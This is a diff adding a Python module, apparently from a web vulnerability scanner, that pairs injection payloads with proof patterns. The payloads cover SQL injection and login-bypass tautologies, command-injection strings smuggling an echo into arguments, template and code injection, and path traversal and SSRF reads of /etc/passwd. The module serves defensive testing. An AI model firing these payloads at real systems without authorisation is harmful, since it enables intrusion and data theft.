@@ -1,0 +1,98 @@
+"""Attacks with proof: each payload comes with the sign only a successful attack shows. Pure."""
+
+import html
+import json
+import re
+from dataclasses import dataclass
+from urllib.parse import quote, unquote
+
+from analyzers.dynamic.http import Answer
+
+PRODUCT = 41 * 271  # what an interpreter makes of the payloads below
+CANARY_HOST = "assay-redirect.invalid"
+PASSWD = re.compile(r"root:[^:\n]*:0:0:")
+URL_NAMES = re.compile(
+    r"ur[il]|link|src|href|target|feed|hook|callback|image|avatar|site|page", re.I
+)
+TEXT_MARKS = ("<zq9x8>", "\"'><zq9x8>")
+
+SQL_ERRORS = re.compile(
+    r"sqlite3\.(Operational|Programming)Error: |SQLITE_ERROR|unrecognized token: |"
+    r"near (&#34;|&quot;|\\?\")[^\n]{0,40}: syntax error|You have an error in your SQL syntax|"
+    r"syntax error at or near|unterminated quoted string at or near|"
+    r"Unclosed quotation mark after|ORA-\d{5}:|SequelizeDatabaseError|psycopg2?\.errors\.Syntax"
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """One payload and its proof: a pattern that the answer must show and the baseline must not."""
+
+    rule: str
+    payload: str
+    proof: re.Pattern[str]
+
+
+def _computed(rule: str, payload: str, result: str) -> Attack:
+    return Attack(rule, payload, re.compile(re.escape(result)))
+
+
+SHELL = f"echo zq$(({'41*271'}))"
+ATTACKS: tuple[Attack, ...] = (
+    Attack("sql-injection", "a'", SQL_ERRORS),
+    Attack("sql-injection", 'a"', SQL_ERRORS),
+    *(
+        _computed("command-injection", payload, f"zq{PRODUCT}")
+        for payload in (f"a;{SHELL}", f"a|{SHELL}", f"$({SHELL})", f'a";{SHELL};"', f"a';{SHELL};'")
+    ),
+    _computed("template-injection", "{{41*271}}zq", f"{PRODUCT}zq"),
+    _computed("template-injection", "${41*271}zq", f"{PRODUCT}zq"),
+    _computed("code-injection", '(()=>{throw new Error("zq"+41*271)})()', f"zq{PRODUCT}"),
+    _computed("code-injection", "str(41*271)+'zq'", f"{PRODUCT}zq"),
+    *(
+        Attack("path-traversal", payload, PASSWD)
+        for payload in ("../" * 9 + "etc/passwd", "/etc/passwd", "....//" * 9 + "etc/passwd")
+    ),
+    Attack("ssrf", "file:///etc/passwd", PASSWD),
+)
+BOOLEAN_PAIRS = (
+    ("a%' AND '1%'='1", "a%' AND '1%'='2"),
+    ("a' OR '1'='1", "a' OR '1'='2"),
+    ("a' OR '1'='1' -- ", "a' OR '1'='2' -- "),
+    ("1 AND 1=1", "1 AND 1=2"),
+)
+LOGIN_BYPASS = ("' OR '1'='1' -- ", "' OR 1=1 -- ")
+
+
+def proven(attack: Attack, answer: Answer, baseline: Answer) -> str:
+    """The part of the answer that proves the attack; empty when nothing does."""
+    hit = attack.proof.search(answer.text)
+    if hit is None or attack.proof.search(baseline.text):
+        return ""
+    return answer.text[max(0, hit.start() - 120) : hit.end() + 200]
+
+
+def reflected(answer: Answer, mark: str = TEXT_MARKS[0]) -> str:
+    """The place in a page where markup of ours came back unescaped; empty when it did not."""
+    if not answer.is_html:
+        return ""
+    text = re.sub(r"<!--.*?-->", "", answer.text, flags=re.DOTALL)  # no browser runs a comment
+    at = text.find(mark)
+    return text[max(0, at - 120) : at + 200] if at >= 0 else ""
+
+
+def redirected_away(answer: Answer) -> bool:
+    """Whether the answer sends a browser to the host we named."""
+    location = answer.headers.get("location", "")
+    pattern = rf"(https?:)?[/\\]{{2,}}{re.escape(CANARY_HOST)}([/?#:]|$)"
+    return 300 <= answer.status < 400 and re.match(pattern, location, re.IGNORECASE) is not None
+
+
+def without_echo(answer: Answer, payload: str) -> str:
+    """Status and body with every form of the payload, and all digits, left out."""
+    text = answer.text
+    forms = (payload, html.escape(payload), quote(payload), json.dumps(payload)[1:-1])
+    for form in (*forms, quote(payload, safe=""), payload.replace("'", "&#39;"), unquote(payload)):
+        text = text.replace(form, "")
+    text = re.sub(r"eyJ[\w-]+\.[\w-]+\.[\w-]*", "", text)
+    return f"{answer.status} {re.sub(r'[0-9]+', '', text)}"
